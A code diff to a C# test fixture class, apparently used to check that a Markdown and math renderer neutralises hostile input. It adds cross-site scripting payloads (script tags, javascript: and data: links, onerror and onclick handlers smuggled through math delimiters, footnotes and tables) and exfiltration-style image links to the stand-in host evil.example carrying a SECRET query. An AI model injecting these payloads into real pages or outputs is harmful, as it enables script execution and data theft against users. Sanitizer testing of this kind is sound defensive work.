@@ -84,6 +84,16 @@ public static class HostileTexts
         "<link rel=stylesheet href=https:evil.example>",
         "<base href=//evil.example/>",
         "<meta http-equiv=refresh content=0>",
+        "$\\href{javascript:alert(1)}{x}$ and \\(\\url{javascript:alert(1)}\\)",
+        "\\(<img src=x onerror=alert(1)>\\) $</span><script>alert(1)</script>$",
+        "$$\n</span></div><script>alert(1)</script>\n$$",
+        "\\[\n\\htmlData{onclick=alert(1)}{x} <svg onload=alert(1)>\n\\]",
+        "$$\n<img src=x onerror=alert(1)>\n\nnever closed",
+        "![$x$](javascript:alert(1)) ![\\(\" onerror=\"alert(1)\\)](x)",
+        "a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
+        "a[^\" onclick=\"alert(1)]\n\n[^\" onclick=\"alert(1)]: note",
+        "a[^<script>]\n\n[^<script>]: <script>alert(1)</script>\n\n    [x](data:text/html,x)",
+        "| a |\n|---|\n| $\" onload=\"alert(1)$ [^n] |\n\n[^n]: ![x](data:x)",
     ];
 
     /// <summary>Forms of an image or a link on another host; each names evil.example, and none may be loaded without a click.</summary>
@@ -105,6 +115,8 @@ public static class HostileTexts
         "![movie](https://evil.example/x.mp4)",
         "| a |\n|---|\n| ![secret](https://evil.example/x.png) |",
         "- > ![secret](https://evil.example/x.png)",
+        "a[^1]\n\n[^1]: ![secret](https://evil.example/x.png?q=SECRET)",
+        "$\\includegraphics{https://evil.example/x.png}$ [secret](https://evil.example/)",
         "[secret](https://evil.example/?q=SECRET)",
         "<https://evil.example/?q=SECRET>",
         "https://evil.example/?q=SECRET",
